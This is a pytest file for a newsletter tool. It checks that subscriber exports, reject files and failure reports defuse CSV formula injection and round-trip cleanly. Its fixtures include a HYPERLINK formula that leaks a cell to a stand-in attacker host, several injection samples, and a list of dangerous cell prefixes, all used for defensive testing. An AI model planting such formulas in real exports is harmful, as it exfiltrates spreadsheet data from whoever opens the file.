"""Every CSV the `newsletter` command writes opens in a spreadsheet as text, never as
formulas, and an exported list imports back as the values it was written from."""

import csv
import io

import yaml

from newsletter.db import transaction
from newsletter.db.models import Delivery
from newsletter.sending.states import DeliveryStatus, move_deliveries
from tests.cli import cli_env, ok, run_cli
from tests.factories import issue_data

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PEOPLE = (
    "email,name,@cmd,city\n"
    "-ana@example.org,-2+3,+1+1,=1+1\n"
    "bo@example.org,Bo,plain,'-x\n"
    "cy@example.org,'quoted,,Lima\n"
    "=1+1,Not an address,,\n"
)


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def no_formulas(rows: list[list[str]]) -> bool:
    return not any(cell.startswith(DANGEROUS) for row in rows for cell in row)


def setup(tmp_path):
    env = cli_env(tmp_path, database_url=f"sqlite:///{tmp_path / 'n.db'}", outbox_dir=tmp_path / "outbox")
    for name in ("weekly", "copy"):
        ok(run_cli("lists", "create", name, cwd=tmp_path, env=env))
    (tmp_path / "people.csv").write_text(PEOPLE, encoding="utf-8")
    return env


def test_the_export_neutralises_formulas_and_imports_back_unchanged(tmp_path):
    env = setup(tmp_path)
    ok(run_cli("subscribers", "import", "people.csv", "--list", "weekly", "--confirmed", "--rejects", "rejects.csv",
               cwd=tmp_path, env=env))
    ok(run_cli("subscribers", "add", "eve@example.org", "--list", "weekly", "--name", FORMULA, "--confirmed",
               cwd=tmp_path, env=env))

    exported = rows_of(ok(run_cli("subscribers", "export", "--list", "weekly", cwd=tmp_path, env=env)))
    assert exported[0] == ["email", "name", "language", "status", "subscribed_at", "confirmed_at", "'@cmd", "city"]
    people = {row[0]: (row[1], row[6], row[7]) for row in exported[1:]}
    # "'-x" in a file read as text "-x", as a spreadsheet reads it; "'quoted" keeps its quote.
    assert people == {"'-ana@example.org": ("'-2+3", "'+1+1", "'=1+1"), "bo@example.org": ("Bo", "plain", "'-x"),
                      "cy@example.org": ("''quoted", "", "Lima"), "eve@example.org": ("'" + FORMULA, "", "")}
    assert no_formulas(exported)
    assert no_formulas(rows_of((tmp_path / "rejects.csv").read_text(encoding="utf-8")))
    assert rows_of((tmp_path / "rejects.csv").read_text(encoding="utf-8"))[1][:2] == ["5", "'=1+1"]

    ok(run_cli("subscribers", "export", "--list", "weekly", "--out", "weekly.csv", cwd=tmp_path, env=env))
    assert rows_of((tmp_path / "weekly.csv").read_text(encoding="utf-8")) == exported
    ok(run_cli("subscribers", "import", "weekly.csv", "--list", "copy", "--confirmed", cwd=tmp_path, env=env))
    copied = rows_of(ok(run_cli("subscribers", "export", "--list", "copy", cwd=tmp_path, env=env)))
    # The same people, names and attributes: nothing gained a quote on the way round.
    assert [row[:3] + row[6:] for row in copied] == [row[:3] + row[6:] for row in exported]


def test_the_failed_recipients_neutralise_the_providers_words(tmp_path):
    env = setup(tmp_path)
    ok(run_cli("subscribers", "import", "people.csv", "--list", "weekly", "--confirmed", cwd=tmp_path, env=env))
    (tmp_path / "brief.yaml").write_text(yaml.safe_dump(issue_data(2), allow_unicode=True), encoding="utf-8")
    issue_id = ok(run_cli("issue", "import", "brief.yaml", cwd=tmp_path, env=env)).strip()
    ok(run_cli("send", issue_id, "--list", "weekly", cwd=tmp_path, env=env))
    with transaction(f"sqlite:///{tmp_path / 'n.db'}") as session:  # as if the relay had refused them
        move_deliveries(session, send_id=1, where=[Delivery.email.in_(["-ana@example.org", "bo@example.org"])],
                        from_=DeliveryStatus.ACCEPTED, to=DeliveryStatus.FAILED, error="@SUM(1+1) refused")
    failed = rows_of(ok(run_cli("sends", "failed", "1", cwd=tmp_path, env=env)))
    assert failed == [["email", "error"], ["'-ana@example.org", "'@SUM(1+1) refused"],
                      ["bo@example.org", "'@SUM(1+1) refused"]]
